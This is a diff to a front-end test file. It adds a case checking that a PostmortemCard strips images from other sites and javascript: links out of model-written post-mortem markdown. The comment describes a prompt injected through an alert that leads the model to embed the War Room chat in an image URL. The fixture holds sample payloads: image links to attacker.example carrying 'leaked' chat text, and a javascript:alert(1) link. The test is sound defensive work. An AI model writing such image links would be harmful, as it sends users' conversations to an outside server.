@@ -179,6 +179,37 @@ describe('PostmortemCard', () => {
     expect(await screen.findByText(reason)).toBeInTheDocument();
   });
 
+  it('loads no image from another site: a model-written post-mortem cannot send what it read to a server when someone opens it', async () => {
+    // A prompt injected through an alert can make the model write an image
+    // whose address carries the War Room conversation.
+    renderCard({
+      postmortem: {
+        ...postmortem,
+        markdown: [
+          '## Timeline',
+          '![graph](https://attacker.example/p.png?chat=leaked%20lines)',
+          '<img src="https://attacker.example/raw.png" alt="raw">',
+          '![local](/static/diagram.png)',
+          '[runbook](javascript:alert(1))',
+        ].join('\n\n'),
+      },
+    });
+
+    const document = await screen.findByRole('document', {
+      name: 'Post-mortem text',
+    });
+    const sources = within(document)
+      .getAllByRole('img')
+      .map(img => img.getAttribute('src') ?? '');
+    expect(sources).toHaveLength(3);
+    expect(sources.filter(src => src.includes('attacker'))).toEqual([]);
+    expect(sources).toContain('/static/diagram.png');
+    expect(within(document).getByText('runbook')).not.toHaveAttribute(
+      'href',
+      expect.stringContaining('javascript'),
+    );
+  });
+
   it('edits the markdown in a dialog and shows the saved text', async () => {
     const { api } = renderCard({ postmortem });
     api.updatePostmortem.mockImplementation(async (_id, markdown) => ({
